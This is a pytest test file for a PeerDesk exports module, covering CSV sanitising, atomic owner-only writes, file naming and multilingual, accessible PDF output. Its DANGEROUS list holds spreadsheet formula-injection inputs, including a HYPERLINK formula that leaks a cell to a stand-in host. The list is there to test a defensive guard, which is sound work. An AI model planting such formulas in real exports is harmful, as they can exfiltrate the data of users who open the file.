"""The exports layer on its own: the CSV guard, the atomic owner-only writer, file names, and
PDFs that keep every script (fonts embedded and shaped, text extractable)."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest

from peerdesk import exports
from peerdesk.exports import Document, Facts, Heading, Items, Para, Table, fonts
from tests.helpers.scripts import NAME, OTHER_SCRIPTS, SECTIONS, missing_words, pdf_text

DANGEROUS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "+1+1", "-2+3",
             "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "＝1+1"]


def test_every_cell_a_spreadsheet_would_run_starts_with_an_apostrophe() -> None:
    for value in DANGEROUS:
        assert exports.cell(value) == "'" + value
    assert [exports.cell(v) for v in ("plain", None, 7, "a=b", "Wiśniewska")] == [
        "plain", "", "7", "a=b", "Wiśniewska"]
    text = exports.csv_text([("name", "note"), *(("x", v) for v in DANGEROUS)])
    raw = list(csv.reader(io.StringIO(text)))[1:]
    assert len(raw) == len(DANGEROUS) and all(cell.startswith("'") for _x, cell in raw)
    # Read back, the words are as they were.
    header, rows = exports.read_csv("\ufeff" + text)
    assert header == ["name", "note"] and [r["note"] for r in rows] == DANGEROUS


def test_files_are_written_whole_and_owner_only(tmp_path: Path) -> None:
    path = exports.write_csv(tmp_path / "new folder" / "out.csv", [("a",), ("=1",)])
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    if os.name == "posix":
        assert stat.S_IMODE(path.stat().st_mode) == exports.OWNER_ONLY
    path.chmod(0o644)  # replacing a file someone opened up makes it owner-only again
    exports.write_atomic(path, b"second")
    assert path.read_bytes() == b"second"
    if os.name == "posix":
        assert stat.S_IMODE(path.stat().st_mode) == exports.OWNER_ONLY
    assert sorted(p.name for p in path.parent.iterdir()) == ["out.csv"]  # no temp left
    with pytest.raises(Exception, match="is a folder"):
        exports.write_atomic(tmp_path, b"x")


def test_a_failed_write_leaves_the_old_file_and_no_temp(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    path = exports.write_atomic(tmp_path / "plan.pdf", b"old")

    def broken(*_args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", broken)
    with pytest.raises(Exception, match="no room left"):
        exports.write_atomic(path, b"new")
    assert path.read_bytes() == b"old" and [p.name for p in tmp_path.iterdir()] == ["plan.pdf"]


def test_file_names_are_safe_and_keep_every_script() -> None:
    from datetime import date

    name = exports.file_name("My crisis plan", 'Zofia/..\\Wiśniewska:"Nguyễn"?', on=date(2026, 7, 14),
                             suffix="pdf")
    assert name == "My crisis plan - Zofia .. Wiśniewska Nguyễn - 2026-07-14.pdf"
    assert "/" not in name and "\\" not in name and ":" not in name
    assert exports.file_name("", suffix=".csv") == "PeerDesk.csv"
    assert exports.file_name("خطة الأزمة", suffix="pdf") == "خطة الأزمة.pdf"


def test_a_pdf_keeps_every_word_of_polish_vietnamese_arabic_and_urdu(tmp_path: Path) -> None:
    doc = Document("Test", (Heading(NAME), Facts(("Agreed by me on 14 July 2026.",)),
                            *(Para(t) for t in SECTIONS.values()),
                            Items(tuple(SECTIONS.values())),
                            Table(("Said", "Where"), tuple((t, "here") for t in SECTIONS.values()))))
    rendered = exports.render(doc)
    assert rendered.missing == 0 and rendered.pages >= 1
    path = exports.write_atomic(tmp_path / "t.pdf", rendered.data)
    text = pdf_text(path)
    for expected in (NAME, *SECTIONS.values()):
        assert missing_words(expected, text) == [], expected


def test_every_script_the_bundled_fonts_cover_has_its_letters(tmp_path: Path) -> None:
    doc = Document("Scripts", tuple(Para(f"{lang}: {t}") for lang, t in OTHER_SCRIPTS.items()))
    rendered = exports.render(doc)
    assert rendered.missing == 0
    text = pdf_text(exports.write_atomic(tmp_path / "s.pdf", rendered.data))
    # Scripts whose words poppler reads back whole (Indic conjuncts may come back split).
    for lang in ("Chinese", "Greek", "Russian", "Amharic", "Hebrew", "Farsi", "Somali",
                 "Romanian", "Turkish", "Tigrinya"):
        assert missing_words(OTHER_SCRIPTS[lang], text) == [], lang


def test_only_the_fonts_a_document_needs_are_embedded() -> None:
    assert fonts.needed("Plain English, Polski, Tiếng Việt") == ()
    assert [f.family for f in fonts.needed("اردو and 中文")] == ["NotoNaskhArabic",
                                                                "DroidSansFallback"]
    for face in (fonts.MAIN, *fonts.FALLBACKS):
        assert (fonts.font_dir() / face.regular).is_file()
        assert face.bold is None or (fonts.font_dir() / face.bold).is_file()
    plain = exports.render(Document("Plain", (Para("Only English here."),))).data
    assert b"NotoNaskhArabic" not in plain and b"FontFile2" in plain  # embedded, subset


def test_right_to_left_is_decided_by_the_first_strong_letter() -> None:
    assert exports.right_to_left(SECTIONS["does_not_help"])
    assert exports.right_to_left("2026 " + SECTIONS["self_help"])
    assert not exports.right_to_left(SECTIONS["helps"]) and not exports.right_to_left("")
    html = exports.html_text(Document("T", (Para(SECTIONS["self_help"] + "\nEnglish"),)))
    assert "<p dir='rtl' align='right'>جب" in html and "<p>English</p>" in html


def test_the_pdf_carries_what_a_screen_reader_needs() -> None:
    from peerdesk.exports import Picture

    doc = Document("My crisis plan (Easy Read)", (
        Heading("My crisis plan"), Picture("sun", "A smiling sun", ("When I am well",)),
        Heading("What helps", 2), Para(SECTIONS["helps"])), lang="en-GB")
    data = exports.render(doc).data
    assert b"/Lang (en-GB)" in data and b"/DisplayDocTitle true" in data
    assert b"/Outlines" in data  # a bookmark per heading
    assert b"/Alt (A smiling sun)" in data and b"/StructTreeRoot" in data  # the picture, tagged
    assert b"/ToUnicode" in data  # every glyph maps back to its letters
